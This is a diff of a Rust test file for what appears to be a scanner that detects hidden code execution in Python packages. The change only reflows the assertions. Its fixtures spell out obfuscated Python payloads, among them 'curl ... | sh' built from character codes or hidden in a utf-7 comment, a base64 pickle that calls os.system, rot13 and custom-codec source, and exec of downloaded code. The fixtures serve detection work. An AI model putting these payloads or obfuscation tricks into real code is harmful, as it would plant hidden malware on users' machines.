@@ -305,12 +305,22 @@ def stage():
     subprocess.run([sys.executable, script])
 "#;
     let d = details(src);
-    assert!(has(&d, "DecodeExecute", "loaded with ctypes.CDLL()"), "{d:?}");
-    assert!(has(&d, "DecodeExecute", "run with subprocess.run()"), "{d:?}");
+    assert!(
+        has(&d, "DecodeExecute", "loaded with ctypes.CDLL()"),
+        "{d:?}"
+    );
+    assert!(
+        has(&d, "DecodeExecute", "run with subprocess.run()"),
+        "{d:?}"
+    );
     assert!(has(&d, "DecodeExecute", "helper.so"), "{d:?}");
     // The script's text is folded (b ^ 7 over constants) and analysed as the code run.
     assert!(
-        has(&d, "ProcessSpawn", "in the decoded payload: os.system(): id"),
+        has(
+            &d,
+            "ProcessSpawn",
+            "in the decoded payload: os.system(): id"
+        ),
         "{d:?}"
     );
 }
@@ -402,14 +412,19 @@ def receive(message):
         details(local)
     );
     // A response pickled and unpickled again (a round-trip test) is local data.
-    let round_trip = "import pickle, requests\nr = requests.get(URL)\nr2 = pickle.loads(pickle.dumps(r))\n";
+    let round_trip =
+        "import pickle, requests\nr = requests.get(URL)\nr2 = pickle.loads(pickle.dumps(r))\n";
     assert!(
         !kinds(round_trip).contains(&K::DownloadExecute),
         "{:?}",
         details(round_trip)
     );
     let blob = "import pickle, base64\nobj = pickle.loads(base64.b64decode('gASVKAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg=='))\n";
-    assert!(kinds(blob).contains(&K::DecodeExecute), "{:?}", details(blob));
+    assert!(
+        kinds(blob).contains(&K::DecodeExecute),
+        "{:?}",
+        details(blob)
+    );
 }
 
 // Values returned by functions of the file.
@@ -456,11 +471,18 @@ fn chr_arithmetic_and_joins_fold_to_their_text() {
     for expr in cases {
         let src = format!("import os\nc = {expr}\nos.system(c)\n");
         let d = details(&src);
-        assert!(has(&d, "ProcessSpawn", "os.system(): curl x|sh"), "{expr}: {d:?}");
+        assert!(
+            has(&d, "ProcessSpawn", "os.system(): curl x|sh"),
+            "{expr}: {d:?}"
+        );
     }
     // A key bound to a name is folded too.
     let src = "import os\nK = 0x20\ncodes = [67, 85, 82, 76]\nos.system(''.join(chr(c ^ K) for c in codes))\n";
-    assert!(has(&details(src), "ProcessSpawn", "os.system(): curl"), "{:?}", details(src));
+    assert!(
+        has(&details(src), "ProcessSpawn", "os.system(): curl"),
+        "{:?}",
+        details(src)
+    );
 }
 
 #[test]
@@ -524,7 +546,8 @@ with open(os.path.join(here, "pkg", "__version__.py")) as f:
 
 #[test]
 fn unusual_source_codecs_are_decoded_and_analysed() {
-    let utf7 = "# coding: utf-7\nimport os\n# note +AAo-os.system('curl http://203.0.113.9/x +AHw- sh')\n";
+    let utf7 =
+        "# coding: utf-7\nimport os\n# note +AAo-os.system('curl http://203.0.113.9/x +AHw- sh')\n";
     let d = details(utf7);
     assert!(has(&d, "Obfuscation", "'utf-7'"), "{d:?}");
     assert!(has(&d, "ProcessSpawn", "codec decodes it"), "{d:?}");
@@ -534,7 +557,11 @@ fn unusual_source_codecs_are_decoded_and_analysed() {
     assert!(has(&d, "ProcessSpawn", "os.system(): id"), "{d:?}");
 
     let rot = "# coding: rot13\nvzcbeg bf\nbf.flfgrz('vq')\n";
-    assert!(has(&details(rot), "ProcessSpawn", "os.system()"), "{:?}", details(rot));
+    assert!(
+        has(&details(rot), "ProcessSpawn", "os.system()"),
+        "{:?}",
+        details(rot)
+    );
 
     // A codec the package registers itself, its body base64.
     let own = "# -*- coding: pkg_b64 -*-\naW1wb3J0IG9zCm9zLnN5c3RlbSgnaWQnKQo=\n";
@@ -545,7 +572,15 @@ fn unusual_source_codecs_are_decoded_and_analysed() {
 
 #[test]
 fn ordinary_source_encodings_stay_quiet() {
-    for codec in ["utf-8", "latin-1", "iso-8859-15", "cp1252", "UTF8", "ascii", "euc-jp"] {
+    for codec in [
+        "utf-8",
+        "latin-1",
+        "iso-8859-15",
+        "cp1252",
+        "UTF8",
+        "ascii",
+        "euc-jp",
+    ] {
         let src = format!("# -*- coding: {codec} -*-\nx = 'a + b'\n");
         assert!(kinds(&src).is_empty(), "{codec}: {:?}", details(&src));
     }
@@ -563,10 +598,17 @@ _ns["ex" "ec"](__import__("urllib.request", fromlist=["x"]).urlopen(U).read())
     let d = details(src);
     assert!(has(&d, "DecodeExecute", "reaches exec()"), "{d:?}");
     assert!(
-        has(&d, "ProcessSpawn", "in the decoded payload: os.system(): id"),
+        has(
+            &d,
+            "ProcessSpawn",
+            "in the decoded payload: os.system(): id"
+        ),
         "{d:?}"
     );
-    assert!(has(&d, "DecodeExecute", "os.system() runs a command hidden"), "{d:?}");
+    assert!(
+        has(&d, "DecodeExecute", "os.system() runs a command hidden"),
+        "{d:?}"
+    );
     assert!(has(&d, "DownloadExecute", "exec()"), "{d:?}");
     // Plain constant code is analysed, not called hidden.
     let plain = "exec('import os\\nos.system(\"id\")')\n";
@@ -602,7 +644,10 @@ def fetch(url):
 "#;
     let d = details(src);
     assert!(has(&d, "DownloadExecute", "made executable"), "{d:?}");
-    assert!(has(&d, "DownloadExecute", "run with subprocess.run()"), "{d:?}");
+    assert!(
+        has(&d, "DownloadExecute", "run with subprocess.run()"),
+        "{d:?}"
+    );
 }
 
 #[test]
@@ -615,13 +660,26 @@ subprocess.run(["git", "-c", "user.name=x", "commit"])
 "#;
     let d = details(src);
     assert!(
-        has(&d, "DecodeExecute", "in the decoded payload: decoded data reaches exec()"),
+        has(
+            &d,
+            "DecodeExecute",
+            "in the decoded payload: decoded data reaches exec()"
+        ),
         "{d:?}"
     );
-    assert!(has(&d, "ProcessSpawn", "in the decoded payload: os.system(): id"), "{d:?}");
+    assert!(
+        has(
+            &d,
+            "ProcessSpawn",
+            "in the decoded payload: os.system(): id"
+        ),
+        "{d:?}"
+    );
     // `git -c` is not an interpreter: only the two payloads above are analysed.
     assert_eq!(
-        d.iter().filter(|x| x.contains("in the decoded payload")).count(),
+        d.iter()
+            .filter(|x| x.contains("in the decoded payload"))
+            .count(),
         2,
         "{d:?}"
     );
